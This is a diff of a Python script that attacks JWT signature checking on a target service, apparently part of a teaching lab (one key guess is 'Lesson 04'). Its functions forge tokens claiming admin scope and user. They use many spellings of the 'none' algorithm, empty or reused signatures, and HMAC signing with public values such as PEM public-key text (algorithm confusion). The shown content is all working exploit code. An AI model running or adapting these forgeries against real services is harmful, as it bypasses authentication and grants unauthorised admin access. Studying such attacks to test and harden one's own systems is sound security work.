@@ -71,11 +71,10 @@ def alg_none(target):
     claims = {**claims_of(good), "scope": "admin", "user": "admin"}
     spellings = ["".join(one) for one in itertools.product("nN", "oO", "nN", "eE")]
     spellings += [" none", "none ", "none\0", "", None, False, 0, [], ["none"], {}, "null", "plain"]
-    signatures = ["", good.rpartition(".")[2], "AA"]
     headers = [{"alg": alg, "typ": "JWT"} for alg in spellings] + [{}, {"typ": "JWT"}]
-    return any_shown(
-        target, (f"{b64(h)}.{b64(claims)}.{end}" for h in headers for end in signatures)
-    )
+    tokens = [f"{b64(header)}.{b64(claims)}." for header in headers]
+    ends = [good.rpartition(".")[2], "AA"]
+    return any_shown(target, [*tokens, *(tokens[0] + end for end in ends)])
 
 
 def no_signature(target):
@@ -112,9 +111,9 @@ def own_key_in_the_header(target):
 
 
 def public_key_as_secret(target):
-    """Sign by HMAC with what is public: names, the realm, nothing, PEM text (algorithm confusion)."""
+    """Sign by HMAC with what is public: a name, the realm, nothing, the PEM text of a key."""
     claims = claims_of(token(target))
-    pem = b"-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n"
+    pem = b"-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYI\n-----END PUBLIC KEY-----\n"
     known = [b"", b"\0", b"null", b"None", b"Lesson 04", b"undefined", pem, pem.strip()]
     algs = ["HS256", "RS256", "ES256"]
     return any_shown(target, [signed({"alg": a}, claims, key) for key in known for a in algs])
